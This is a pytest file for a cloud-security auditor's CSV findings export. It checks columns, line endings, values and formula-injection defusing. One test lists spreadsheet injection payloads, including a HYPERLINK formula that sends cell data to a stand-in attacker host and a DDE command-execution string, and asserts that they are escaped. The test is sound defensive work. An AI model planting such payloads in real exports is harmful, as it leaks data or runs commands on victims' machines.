"""findings.csv: read back with the csv module; formula injection defused."""

from __future__ import annotations

import csv
import io

import pytest

from auditor.findings.document import from_document
from auditor.model import ScanResult, Status
from auditor.outputs.csv import COLUMNS, defuse, render
from auditor.outputs.findings_json import to_document

from .builders import (
    ACTIVE_WAIVER,
    AUTH_MODE,
    AZURE_ENDPOINT,
    CAPTURE,
    HOSTILE,
    KMS,
    finding,
    hostile,
    make_result,
    sm_arn,
)


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_header_and_one_row_per_finding(any_result: ScanResult) -> None:
    text = render(any_result)
    assert next(csv.reader(io.StringIO(text, newline=""))) == list(COLUMNS)
    rows = read(text)
    assert len(rows) == len(any_result.findings)
    assert {r["id"] for r in rows} == {f.id for f in any_result.findings}
    assert all(list(row) == list(COLUMNS) for row in rows)


def test_deterministic_and_identical_when_re_rendered_from_findings_json(any_result: ScanResult) -> None:
    text = render(any_result)
    assert render(any_result) == text
    assert render(from_document(to_document(any_result), "findings.json")) == text


def test_rfc_4180_line_ends(result: ScanResult) -> None:
    text = render(result)
    assert text.count("\r\n") == len(result.findings) + 1 and text.endswith("\r\n")


def test_values(result: ScanResult) -> None:
    rows = {(r["rule_id"], r["resource_id"]): r for r in read(render(result))}
    ep_a = rows[KMS, sm_arn("endpoint-config", "ep-a")]
    assert ep_a["status"] == "FAIL" and ep_a["severity"] == "high" and ep_a["gating"] == "true"
    assert ep_a["title"] == result.rules[KMS].title
    assert ep_a["provider"] == "aws" and ep_a["account"] == "123456789012" and ep_a["region"] == "eu-west-1"
    assert ep_a["resource_type"] == "aws.sagemaker.endpoint_config" and ep_a["resource_name"] == "ep-a"
    assert ep_a["message"] == "Endpoint config ep-a stores data with the AWS managed key."
    assert ep_a["remediation"] == f"Fix {KMS} like this." and ep_a["automatic_fix"] == "false"
    assert ep_a["frameworks"] == "CIS AWS 2.1.1; ISO 27001 A.8.24"
    assert ep_a["waiver_reason"] == ep_a["waiver_owner"] == ep_a["waiver_expires"] == ""
    capture = rows[CAPTURE, sm_arn("endpoint-config", "ep-a")]
    assert capture["gating"] == "false" and capture["automatic_fix"] == "true"
    muted = rows[AUTH_MODE, AZURE_ENDPOINT]
    assert muted["status"] == "MUTED"
    assert (muted["waiver_reason"], muted["waiver_owner"], muted["waiver_expires"]) == (
        ACTIVE_WAIVER.reason, ACTIVE_WAIVER.owner, "2027-03-31"
    )


def test_empty_result_is_a_header() -> None:
    assert render(make_result(findings=(), rules={})) == ",".join(COLUMNS) + "\r\n"


@pytest.mark.parametrize("payload", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
    "\tleading tab", "\rleading CR", "\uff1d1+1",  # the last: a full-width equals sign
])
def test_formula_injection_is_defused(payload: str) -> None:
    result = make_result(findings=(
        finding(KMS, sm_arn("endpoint-config", "x"), Status.FAIL, name=payload, message=payload,
                evidence={"k": payload}),
    ))
    [row] = read(render(result))
    assert row["resource_name"] == "'" + payload
    assert row["message"] == "'" + payload


def test_ordinary_cells_are_untouched_and_line_breaks_round_trip() -> None:
    message = "line one\nline two, with \"quotes\" and a comma"
    result = make_result(findings=(finding(KMS, sm_arn("endpoint-config", "y"), Status.FAIL, message=message),))
    [row] = read(render(result))
    assert row["message"] == message
    assert defuse("a=b") == "a=b" and defuse("") == "" and defuse("nul\x00byte") == "nulbyte"


def test_hostile_strings_are_plain_cells() -> None:
    rows = read(render(hostile()))
    assert any(r["resource_name"] == HOSTILE for r in rows)
    assert all(len(r) == len(COLUMNS) for r in rows)
